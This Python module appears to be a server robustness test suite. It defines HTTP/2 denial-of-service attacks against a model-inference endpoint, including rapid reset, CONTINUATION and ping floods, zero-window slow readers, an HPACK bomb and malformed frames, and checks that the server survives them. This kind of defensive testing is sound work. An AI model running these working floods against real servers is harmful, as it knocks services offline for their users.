"""HTTP/2: floods of frames that cost their sender nothing, and readers that do not read."""

import os
import struct
import time

import grpc
import http1
import http2
from http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame
from judge import attack

FLOOD_S = 1.0


def flood(scene, connections, piece, seconds=FLOOD_S):
    """Sends the same bytes over and over on all connections, and reads nothing. Tells how much was taken in."""
    sent = 0
    until = time.monotonic() + seconds
    while connections and time.monotonic() < until:
        for connection in list(connections):
            connection.socket.settimeout(0.05)
            try:
                sent += connection.socket.send(piece)
            except TimeoutError:
                pass
            except OSError:
                connections.remove(connection)
    return f"{sent / 1e6:.1f} MB taken in, {len(connections)} connections left"


def connect_all(scene, count, **options):
    return [http2.Connection(scene.http, **options) for _ in range(count)]


def flood_with(scene, piece, count=4):
    return flood(scene, connect_all(scene, count), piece)


@attack()
def h2_rapid_reset(scene):
    """Streams that are reset as soon as they are open (CVE-2023-44487): health, then inferences with and without a
    body."""
    seven = grpc.framed(grpc.seven())
    kinds = [
        (http2.fields("GET", "/v2/health/live"), b""),
        (grpc.head("ModelInfer"), seven),
        (grpc.head("ModelInfer"), b""),
    ]
    connections, resets = connect_all(scene, 6), 0
    while connections and not scene.is_over(1.5):
        for connection in list(connections):
            pieces = b""
            for _ in range(100):
                block, body = kinds[resets % len(kinds)]
                stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                pieces += frame(HEADERS, END_HEADERS | (0 if body else 1), stream, block)
                pieces += (frame(DATA, 1, stream, body) if body else b"") + frame(
                    RST_STREAM, 0, stream, struct.pack(">I", 8)
                )
                resets += 1
            if not connection.send(pieces) or not connection.pump():
                connections.remove(connection)
                connection.close()
                if not scene.is_over(1):
                    connections += connect_all(scene, 1)
    return f"{resets} streams reset"


@attack()
def h2_made_you_reset(scene):
    """Streams that the server has to reset (CVE-2025-8671): window updates of zero, data after the end."""
    seven = grpc.framed(grpc.seven())
    connections, opened = connect_all(scene, 4), 0
    while connections and not scene.is_over(1.5):
        for connection in list(connections):
            pieces = b""
            for _ in range(50):
                stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                pieces += frame(HEADERS, END_HEADERS, stream, grpc.head("ModelInfer")) + frame(DATA, 1, stream, seven)
                wrong = [
                    frame(WINDOW_UPDATE, 0, stream, bytes(4)),
                    frame(DATA, 1, stream, b"x"),
                    frame(PRIORITY, 0, stream, b"x"),
                ]
                pieces += wrong[opened % 3]
                opened += 1
            if not connection.send(pieces) or not connection.pump():
                connections.remove(connection)
                connection.close()
                if not scene.is_over(1):
                    connections += connect_all(scene, 1)
    return f"{opened} streams"


@attack()
def h2_continuation_flood(scene):
    """Heads without an end (CVE-2024-27316), in large pieces, in tiny ones and in empty ones."""
    block = http2.fields("GET", "/v2/health/live")
    told = []
    for size in (16_000, 20, 0):
        connections = connect_all(scene, 3)
        for connection in connections:
            connection.send(frame(HEADERS, 1, 1, block))
        name = b"x" * max(0, size - 10)
        piece = frame(CONTINUATION, 0, 1, http2.literal(b"a", name) if size else b"")
        told.append(flood(scene, connections, piece * max(1, 16_000 // (9 + size)), 0.4))
    return "; ".join(told)


@attack()
def h2_ping_flood(scene):
    """Pings whose answers nobody reads (CVE-2019-9512)."""
    return flood_with(scene, frame(PING, 0, 0, bytes(8)) * 1000)


@attack()
def h2_settings_flood(scene):
    """Settings that are to be acknowledged (CVE-2019-9515), empty and with a table of any size."""
    changes = http2.setting(0x1, 0) + http2.setting(0x1, 65_536) + http2.setting(http2.INITIAL_WINDOW_SIZE, 1)
    return flood_with(scene, (frame(SETTINGS, 0, 0) + frame(SETTINGS, 0, 0, changes)) * 500)


@attack()
def h2_empty_frames(scene):
    """Empty data on an open stream (CVE-2019-9518), priorities (CVE-2019-9513), and frames of unknown kinds."""
    connections = connect_all(scene, 3)
    pieces = []
    for connection in connections:
        stream = connection.open(grpc.head("ModelStreamInfer"), is_end=False)
        pieces = [
            frame(DATA, 0, stream),
            frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 16)),
            frame(0xBE, 0xFF, 0, b"x" * 100),
        ]
    return "; ".join(flood(scene, list(connections), piece * 500, 0.4) for piece in pieces)


@attack()
def h2_window_floods(scene):
    """Window updates beyond 2^31, of one byte each, and for streams that are not there."""
    overflow = connect_all(scene, 2, window=0)
    for connection in overflow:
        connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF_FFFF)) * 2)
    told = flood(scene, connect_all(scene, 3, window=0), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000)
    ended = sum(not connection.pump_until(lambda: connection.is_over, 0.2) for connection in overflow)
    scene.expect(ended == 0, f"{ended} connections survived windows beyond 2^31")
    return told


@attack(limit_s=10)
def h2_window_0_readers(scene):
    """64 readers with a window of zero that keep opening streams on /metrics: their replies are held for them."""
    block = http2.fields("GET", "/metrics")
    connections = connect_all(scene, 64, settings=http2.setting(http2.INITIAL_WINDOW_SIZE, 0), window=0)
    while not scene.is_over(2.5):
        for connection in connections:
            for _ in range(4):
                if not connection.is_over:
                    connection.open(block)
            connection.pump()
        time.sleep(0.02)
    opened = sum(len(connection.windows) for connection in connections)
    answered = sum(len(connection.statuses) for connection in connections)
    dropped = sum(connection.is_over for connection in connections)
    return f"{opened} streams, {answered} answered, {dropped} readers dropped"


@attack(is_slow=True, limit_s=25)
def h2_window_0_readers_are_dropped(scene):
    """As above, for as long as it takes until all of these readers are gone: twice body_timeout_ms."""
    block = http2.fields("GET", "/metrics")
    connections = connect_all(scene, 16, settings=http2.setting(http2.INITIAL_WINDOW_SIZE, 0), window=0)
    while not scene.is_over(20) and not all(connection.is_over for connection in connections):
        for connection in connections:
            if not connection.is_over:
                connection.open(block)
                connection.pump()
        time.sleep(0.5)
    left = sum(not connection.is_over for connection in connections)
    scene.expect(left == 0, f"{left} of 16 readers that take nothing in are still there after 20 s")


@attack()
def h2_hpack_bomb(scene):
    """Fields of four kilobytes in the table that one byte refers to, ten thousand times in a head."""
    bomb = http2.indexed_literal("x", os.urandom(1900).hex())
    references = b"\xbe" * 10_000
    connections, opened = connect_all(scene, 4), 0
    while connections and not scene.is_over(1.5):
        for connection in list(connections):
            block = http2.fields("GET", "/v2/health/live") + (bomb if connection.next_stream == 1 else b"") + references
            connection.open(block)
            opened += 1
            if not connection.pump():
                connections.remove(connection)
    accepted = sum(status == 200 for connection in connections for status in connection.statuses.values())
    scene.expect(accepted == 0, f"{accepted} heads of 40 MB were accepted")
    return f"{opened} heads, {len(connections)} connections left"


@attack()
def h2_bad_frames(scene):
    """What RFC 9113 forbids: frames of 16 MB, streams backwards, on stream 0, in mid-head; noise after the preface."""
    block = http2.fields("GET", "/v2/health/live")
    huge = b"\xff\xff\xff" + struct.pack(">BBI", DATA, 0, 1)
    nonsense = [
        huge + b"x" * 100_000,
        frame(HEADERS, 5, 5, block) + frame(HEADERS, 5, 3, block),
        frame(HEADERS, 5, 2, block),
        frame(HEADERS, 5, 0, block),
        frame(DATA, 0, 0, b"x"),
        frame(DATA, 0, 9, b"x"),
        frame(HEADERS, 0, 1, block) + frame(PING, 0, 0, bytes(8)),
        frame(CONTINUATION, 4, 1, block),
        frame(HEADERS, 5, 1, b"\xff" * 1000),
        frame(HEADERS, 5, 1, b"\x3f" + b"\xff" * 20),
        frame(HEADERS, 5, 1, b"\x00\x7f\xff\xff\xff\x0f"),
        frame(HEADERS, 0xD, 1, b"\xff" + block),
        frame(SETTINGS, 0, 0, b"x" * 7),
        frame(SETTINGS, 1, 0, http2.setting(1, 1)),
        frame(SETTINGS, 0, 0, http2.setting(http2.MAX_FRAME_SIZE, 1)),
        frame(SETTINGS, 0, 0, http2.setting(http2.INITIAL_WINDOW_SIZE, 0xFFFF_FFFF)),
        frame(http2.PUSH_PROMISE, 4, 1, struct.pack(">I", 2) + block),
        frame(http2.GOAWAY, 0, 0, bytes(4)),
        os.urandom(50_000),
    ]
    connections = connect_all(scene, len(nonsense) * 8)
    for index, connection in enumerate(connections):
        http1.push(connection.socket, nonsense[index % len(nonsense)])
    for connection in connections:
        connection.pump_until(lambda: connection.is_over, 0.1)
    accepted = sum(200 in connection.statuses.values() for connection in connections)
    # The first of the two heads of streams 5 and 3 is in order.
    scene.expect(accepted <= 16, f"{accepted} of {len(connections)} heads that are none were answered")
    return f"{len(connections)} connections, {sum(connection.is_over for connection in connections)} ended at once"
